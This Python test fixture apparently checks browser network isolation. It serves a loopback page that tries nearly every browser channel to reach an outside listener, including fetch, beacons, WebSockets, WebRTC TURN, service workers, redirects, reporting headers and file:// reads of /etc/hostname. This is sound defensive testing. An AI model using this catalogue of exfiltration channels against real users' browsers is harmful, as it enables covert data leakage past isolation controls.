"""A page that tries every way out of its site that browsers know, towards a listener on another port."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

PAGE = """<!doctype html><html><head><title>out</title>
<link rel="dns-prefetch" href="//outside.example"><link rel="preconnect" href="OUT">
<link rel="prefetch" href="OUT/prefetch"><link rel="preload" as="image" href="OUT/preload">
<link rel="modulepreload" href="OUT/module.js"><link rel="stylesheet" href="OUT/style.css">
<link rel="icon" href="OUT/icon.png"><link rel="manifest" href="OUT/manifest.json"><link rel="prerender" href="OUT/pre">
<style>@import url("OUT/import.css"); @font-face { font-family: f; src: url("OUT/font.woff2"); }
body { font-family: f; background: url("OUT/background.png"); }</style>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["OUT/speculated"]}],
"prerender": [{"source": "list", "urls": ["OUT/prerendered"]}]}</script>
<script src="OUT/script.js"></script></head><body>text
<img src="OUT/image.png"><img src="/hop"><img srcset="OUT/set.png 2x"><video src="OUT/film.webm" autoplay></video>
<audio src="OUT/sound.ogg" autoplay></audio><object data="OUT/object"></object><embed src="OUT/embed">
<iframe src="OUT/frame"></iframe><iframe src="/hop"></iframe><iframe src="/refresh"></iframe>
<iframe src="file:///etc/hostname"></iframe><iframe src="mailto:nobody@outside.example"></iframe>
<iframe name="sink"></iframe><form id="form" method="post" action="OUT/form" target="sink"><input name="a"></form>
<a id="ping" href="#here" ping="OUT/ping">ping</a><a id="load" href="OUT/file.zip" download target="sink">load</a>
<script>
const tried = [];
const attempt = async (name, work) => {
  tried.push(name);
  try { await Promise.race([work(), new Promise((done) => setTimeout(done, 2000))]); } catch (error) { return; }
};
const socket = OUT_SOCKET;
(async () => {
  const all = [
    attempt("fetch", () => fetch("OUT/fetch")),
    attempt("no-cors", () => fetch("OUT/no-cors", { mode: "no-cors", keepalive: true })),
    attempt("hop", () => fetch("/hop", { mode: "no-cors" })),
    attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("PUT", "OUT/xhr"); x.send("a"); }),
    attempt("socket", () => { new WebSocket(socket + "/socket"); }),
    attempt("events", () => { new EventSource("OUT/events"); }),
    attempt("beacon", () => navigator.sendBeacon("OUT/beacon", "a")),
    attempt("form", () => document.getElementById("form").submit()),
    attempt("ping", () => document.getElementById("ping").click()),
    attempt("popup", () => { window.open("OUT/popup"); window.open("/hop"); }),
    attempt("download", () => document.getElementById("load").click()),
    attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(
      ["fetch('OUT/worker', {mode: 'no-cors'}); importScripts('OUT/imported.js')"]))); }),
    attempt("service worker", async () => {
      await navigator.serviceWorker.register("/service.js");
      const ready = await navigator.serviceWorker.ready;
      ready.active.postMessage("go");
    }),
    attempt("webrtc", async () => {
      const host = socket.replace("ws://", "");
      const turns = ["turn:" + host + "?transport=udp", "turn:" + host + "?transport=tcp"];
      const peer = new RTCPeerConnection(
        { iceServers: [{ urls: "stun:" + host }, { urls: turns, username: "u", credential: "p" }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done();
      });
    }),
    attempt("transport", () => new WebTransport("https://" + socket.replace("ws://", "") + "/transport").ready),
    attempt("file", () => fetch("file:///etc/hostname")),
    attempt("mail", () => {
      document.querySelector("[name=sink]").contentWindow.location = "mailto:a@outside.example";
    }),
  ];
  await Promise.all(all);
  await fetch("/tried", { method: "POST", body: tried.join(" ") });
})();
</script></body></html>"""

SERVICE = """self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("message", (event) => event.waitUntil(fetch("OUT/service", { mode: "no-cors" })));
fetch("OUT/service-start", { mode: "no-cors" });"""

TRIED = (
    "fetch", "no-cors", "hop", "xhr", "socket", "events", "beacon", "form", "ping", "popup", "download", "worker",
    "service worker", "webrtc", "transport", "file", "mail",
)  # fmt: skip
"""What the page says to have tried, beside all that its markup asks for."""


@dataclass
class Outside:
    """Counts whoever comes: connections, and datagrams to the same port."""

    port: int = 0
    connections: int = 0
    datagrams: int = 0

    @property
    def visits(self) -> int:
        return self.connections + self.datagrams


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, outside: Outside) -> None:
        self.outside = outside

    def datagram_received(self, data: bytes, address: object) -> None:
        self.outside.datagrams += 1


@dataclass
class HostilePage:
    """The site with the page; `said` is what the page told to have tried."""

    url: str = ""
    outside: Outside = field(default_factory=Outside)
    said: str = ""
    done: asyncio.Event = field(default_factory=asyncio.Event)

    def answer(self, method: str, path: str, body: bytes) -> tuple[str, str, str]:
        out = f"http://127.0.0.1:{self.outside.port}"
        if path == "/":
            page = PAGE.replace("OUT_SOCKET", f'"{out.replace("http", "ws")}"').replace("OUT", out)
            more = (
                f"Link: <{out}/linked>; rel=preload; as=script\r\n"
                f'Alt-Svc: h2="127.0.0.1:{self.outside.port}"\r\n'
                f'Report-To: {{"group":"g","max_age":99,"endpoints":[{{"url":"{out}/report"}}]}}\r\n'
                f'NEL: {{"report_to":"g","max_age":99,"success_fraction":1.0}}\r\n'
                f"Content-Security-Policy-Report-Only: img-src 'none'; report-uri {out}/csp; report-to g\r\n"
            )
            return "200 OK", f"Content-Type: text/html\r\n{more}", page
        if path == "/hop":
            return "302 Found", f"Location: {out}/hopped\r\n", ""
        if path == "/refresh":
            page = f'<meta http-equiv="refresh" content="0; url={out}/refreshed">'
            return "200 OK", "Content-Type: text/html\r\n", page
        if path == "/service.js":
            return "200 OK", "Content-Type: text/javascript\r\n", SERVICE.replace("OUT", out)
        if path == "/tried":
            self.said = body.decode()
            self.done.set()
        return "200 OK", "Content-Type: text/plain\r\n", "ok"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, OSError, asyncio.CancelledError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                lengths = [line for line in head.lower().split("\r\n") if line.startswith("content-length:")]
                body = await reader.readexactly(int(lengths[0].partition(":")[2])) if lengths else b""
                method, path, _ = head.split(" ", 2)
                status, more, text = self.answer(method, path, body)
                data = text.encode()
                writer.write(f"HTTP/1.1 {status}\r\n{more}Content-Length: {len(data)}\r\n\r\n".encode() + data)
                await writer.drain()
        writer.transport.abort()


@contextlib.asynccontextmanager
async def hostile_page() -> AsyncIterator[HostilePage]:
    """The site and the listener outside, both on loopback, until the block ends."""
    site = HostilePage()

    async def counted(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        site.outside.connections += 1
        with contextlib.suppress(asyncio.IncompleteReadError, OSError, asyncio.CancelledError):
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            await writer.drain()
        writer.transport.abort()

    outside = await asyncio.start_server(counted, "127.0.0.1", 0)
    site.outside.port = outside.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    datagrams, _ = await loop.create_datagram_endpoint(
        lambda: _Datagrams(site.outside), local_addr=("127.0.0.1", site.outside.port)
    )
    inside = await asyncio.start_server(site.serve, "127.0.0.1", 0)
    site.url = f"http://127.0.0.1:{inside.sockets[0].getsockname()[1]}/"
    try:
        yield site
    finally:
        inside.close()
        outside.close()
        datagrams.close()
